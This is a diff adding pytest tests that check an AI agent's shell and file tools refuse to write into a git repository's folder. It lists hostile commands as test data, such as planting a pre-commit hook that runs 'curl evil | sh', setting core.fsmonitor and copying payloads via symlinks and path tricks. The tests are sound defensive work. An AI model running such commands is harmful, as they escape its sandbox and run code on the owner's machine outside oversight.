@@ -7,6 +7,8 @@ from __future__ import annotations
 
 import hashlib
 import os
+import shutil
+import subprocess
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -210,6 +212,115 @@ async def test_read_only_writes_nothing_in_the_workspace_either(
     output = await shell(world, "read_only", sandbox, command)
     assert not output.startswith("exit code: 0"), output
     assert sorted(p.name for p in world["workspace"].iterdir()) == before
+
+
+# A repository's own folder runs programs: hooks, and settings such as core.fsmonitor, the
+# next time the owner runs git there, outside the sandbox. {git}: the workspace's .git.
+GIT_SHELL_ATTACKS = [
+    "echo 'curl evil | sh' > .git/hooks/pre-commit", "echo '[core] fsmonitor = x' >> .git/config",
+    "cp payload.sh .git/hooks/pre-commit", "mv payload.sh .git/hooks/post-checkout",
+    "tee .git/hooks/pre-commit < payload.sh", "ln -s payload.sh .git/hooks/pre-commit",
+    "dd if=payload.sh of=.git/hooks/pre-commit", "sort -o .git/config payload.sh",
+    "sed -i s/false/true/ .git/config", "touch .git/hooks/pre-push", "mkdir .git/hooks/x",
+    "rm .git/config", "cp -r hooks-dir/. .git/hooks", "cp payload.sh .gi?/hooks",
+    "cp payload.sh ~/.git/hooks/pre-commit", "cp payload.sh sub/../.git/hooks/pre-commit",
+    "cp payload.sh {git}/hooks/pre-commit", "cp payload.sh gitlink/hooks/pre-commit",
+    "ln -s .git g; cp payload.sh g/hooks/pre-commit", "cp payload.sh .GIT",
+    "cp payload.sh sub/.git/hooks/pre-commit", "cp payload.sh gd/hooks/pre-commit",
+    "echo x > gd/config", "touch new/.git", "cp payload.sh .git",
+]  # fmt: skip
+GIT_FILE_ATTACKS = [
+    ".git/hooks/pre-commit", ".git/config", "./.git/config", "gitlink/config",
+    ".GIT/hooks/pre-commit", "sub/.git/hooks/pre-commit", "gd/hooks/pre-commit", "gd/config",
+    "new/.git/config", "other/.git",
+]  # fmt: skip
+
+
+def _git(*args: str) -> None:
+    subprocess.run(["git", *args], check=True, capture_output=True, timeout=30)
+
+
+@pytest.fixture
+def repos(world: dict[str, Path]) -> dict[str, Path]:
+    """The workspace as a git repository, with a nested one (sub/), one whose folder was
+    separated (other/.git is a file naming gd/), a link to .git, and payloads to plant."""
+    if shutil.which("git") is None:
+        pytest.skip("git is not installed")
+    workspace = world["workspace"]
+    _git("init", "-q", str(workspace))
+    _git("init", "-q", str(workspace / "sub"))
+    _git("init", "-q", "--separate-git-dir", str(workspace / "gd"), str(workspace / "other"))
+    os.symlink(".git", workspace / "gitlink")
+    (workspace / "payload.sh").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
+    (workspace / "hooks-dir").mkdir()
+    (workspace / "hooks-dir" / "pre-commit").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
+    return world
+
+
+def workspace_snapshot(workspace: Path) -> dict[str, str]:
+    """Every entry of the workspace (links as links), with a hash of each file's bytes."""
+    seen: dict[str, str] = {}
+    for folder, dirs, files in os.walk(workspace):
+        for name in dirs + files:
+            path = Path(folder, name)
+            if path.is_symlink():
+                seen[str(path)] = "-> " + os.readlink(path)
+            elif path.is_file():
+                seen[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
+            else:
+                seen[str(path)] = "dir"
+    return seen
+
+
+@pytest.mark.skipif(not SANDBOXES, reason="no OS sandbox here")
+@pytest.mark.parametrize("autonomy", ["read_only", "supervised"])
+@pytest.mark.parametrize("attack", GIT_SHELL_ATTACKS)
+async def test_shell_writes_nothing_into_a_git_folder(
+    repos: dict[str, Path], autonomy: str, attack: str
+) -> None:
+    workspace = repos["workspace"]
+    before = workspace_snapshot(workspace)
+    command = attack.format(git=workspace / ".git")
+    output = await shell(repos, autonomy, SANDBOXES[0], command)
+    assert output.startswith("Refused: "), output
+    if autonomy == "supervised":
+        assert "a git repository's own folder" in output, output
+    assert workspace_snapshot(workspace) == before
+    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
+
+
+@pytest.mark.parametrize("autonomy", LEVELS)
+@pytest.mark.parametrize("attack", GIT_FILE_ATTACKS)
+async def test_file_tools_write_nothing_into_a_git_folder(
+    repos: dict[str, Path], autonomy: str, attack: str
+) -> None:
+    workspace = repos["workspace"]
+    before = workspace_snapshot(workspace)
+    policy = make_policy(repos, autonomy)
+    built = FileTools(policy).tools()
+    tools = {t.name: t for t in (read_only(built) if autonomy == "read_only" else built)}
+    call = ToolCallContext(policy.workspace)
+    write = await tools["file_write"].run({"path": attack, "content": "[core]\n"}, call)
+    edit = await tools["file_edit"].run(
+        {"path": attack, "old_text": "[core]", "new_text": "[alias]"}, call
+    )
+    assert not write.ok and not edit.ok
+    if autonomy != "read_only":
+        assert "a git repository's own folder" in write.output, write.output
+    assert workspace_snapshot(workspace) == before
+
+
+@pytest.mark.skipif(not SANDBOXES, reason="no OS sandbox here")
+async def test_git_still_works_and_its_folder_can_be_read(repos: dict[str, Path]) -> None:
+    """Git writes its own folder itself; only the tools may not write there."""
+    workspace = repos["workspace"]
+    for command in ("git add payload.sh", "git status --short", "cat .git/config"):
+        output = await shell(repos, "supervised", SANDBOXES[0], command)
+        assert output.startswith("exit code: 0"), (command, output)
+    assert "A  payload.sh" in await shell(repos, "supervised", SANDBOXES[0], "git status -s")
+    file_read = FileTools(make_policy(repos, "supervised")).tools()[0]
+    read = await file_read.run({"path": ".git/HEAD"}, ToolCallContext(workspace))
+    assert read.ok and read.output.startswith("ref: refs/heads/")
 
 
 def test_the_table_is_large_enough() -> None:
